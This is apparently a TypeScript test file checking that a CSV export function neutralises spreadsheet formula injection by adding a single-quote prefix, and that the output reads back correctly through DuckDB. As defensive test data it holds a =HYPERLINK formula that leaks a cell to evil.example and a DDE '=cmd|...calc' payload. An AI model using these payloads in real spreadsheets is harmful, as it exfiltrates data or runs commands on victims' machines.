/**
 * The CSV of a visual (`visualCsv`): text cells a spreadsheet would evaluate as a formula
 * get a leading single quote (OWASP CSV injection), numbers stay numbers, and the file
 * reads back (plain DuckDB's CSV reader) to exactly the cells, with the prefix.
 */
import { DuckDBInstance } from '@duckdb/node-api';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { CellValue, ResultColumn } from '../../engine/engine.ts';
import { visualCsv } from './dashboard-data.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

const columns: ResultColumn[] = [
  { name: 'label', type: 'VARCHAR' },
  { name: 'users', type: 'BIGINT' },
  { name: 'spend', type: 'DECIMAL(38,6)' },
  { name: 'lift', type: 'DOUBLE' },
];

describe('visualCsv', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cr-visual-csv-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('prefixes text cells starting with = + - @, tab or CR with a single quote, inside quotes', () => {
    const cell = (label: string): string => visualCsv({ columns, rows: [[label, 1, '2.50', 0.5]] }).split('\n')[1] ?? '';
    expect(cell(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")",1,2.50,0.5`);
    expect(cell('=1+1')).toBe(`"'=1+1",1,2.50,0.5`);
    expect(cell('+1+cmd')).toBe(`"'+1+cmd",1,2.50,0.5`);
    expect(cell('-2+3')).toBe(`"'-2+3",1,2.50,0.5`);
    expect(cell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)",1,2.50,0.5`);
    expect(cell('\t=cmd')).toBe(`"'\t=cmd",1,2.50,0.5`);
    expect(cell('\r=cmd')).toBe(`"'\r=cmd",1,2.50,0.5`);
    // A text column's "-5" is text: it is prefixed too.
    expect(cell('-5')).toBe(`"'-5",1,2.50,0.5`);
  });

  it('leaves numbers of numeric columns alone, negative ones included, and ordinary text as it was', () => {
    const csv = visualCsv({
      columns,
      rows: [
        ['cmp-001', -3, '-1234.500000', -0.0125],
        ['a, b', 9007199254740991, '-0.000001', 1e-7],
        ['say "hi"', null, null, null],
        ['x=1', 0, '12', -1.5e-7],
      ],
    });
    expect(csv).toBe(
      'label,users,spend,lift\n' +
        'cmp-001,-3,-1234.500000,-0.0125\n' +
        '"a, b",9007199254740991,-0.000001,1e-7\n' +
        '"say ""hi""",,,\n' +
        'x=1,0,12,-1.5e-7\n',
    );
    // Big integers and DECIMALs arrive as strings: still numbers, still unprefixed.
    expect(visualCsv({ columns: [{ name: 'n', type: 'HUGEINT' }], rows: [['-170141183460469231731687303715884105727']] })).toBe('n\n-170141183460469231731687303715884105727\n');
    // A numeric column's cell that is not a plain number is treated as text.
    expect(visualCsv({ columns: [{ name: 'd', type: 'DOUBLE' }], rows: [['-Infinity'], ['NaN']] })).toBe(`d\n"'-Infinity"\nNaN\n`);
  });

  it('escapes header cells too (column names come from results SQL)', () => {
    expect(visualCsv({ columns: [{ name: '=cmd|"/c calc"!A1', type: 'VARCHAR' }, { name: 'ok', type: 'BIGINT' }], rows: [] })).toBe(`"'=cmd|""/c calc""!A1",ok\n`);
  });

  it('reads back with a CSV reader to the cells, hostile ones with the quote in front', async () => {
    const labels = [HYPERLINK, '+SUM(1)', '-1-1', '@x', '\tx', 'plain', 'comma, "quoted"', 'line\nbreak'];
    const rows: CellValue[][] = labels.map((l, i) => [l, -(i + 1), `-${i}.25`, -(i + 1) / 8]);
    const file = join(dir, 'visual.csv');
    writeFileSync(file, visualCsv({ columns, rows }));
    const duck = await DuckDBInstance.create(':memory:');
    const c = await duck.connect();
    try {
      const read = await c.runAndReadAll(
        `SELECT label, users, spend, lift FROM read_csv('${file}', header = true, quote = '"', escape = '"', columns = {'label': 'VARCHAR', 'users': 'BIGINT', 'spend': 'DECIMAL(10,2)', 'lift': 'DOUBLE'})`,
      );
      const got = read.getRowsJson();
      expect(got.map((r) => r[0])).toEqual(labels.map((l) => (/^[=+\-@\t\r]/.test(l) ? `'${l}` : l)));
      // Numbers came back as numbers of their columns.
      expect(got.map((r) => Number(r[1]))).toEqual(labels.map((_, i) => -(i + 1)));
      expect(got.map((r) => Number(r[2]))).toEqual(labels.map((_, i) => -(i + 0.25)));
      expect(got.map((r) => Number(r[3]))).toEqual(labels.map((_, i) => -(i + 1) / 8));
    } finally {
      c.closeSync();
      duck.closeSync();
    }
  });
});
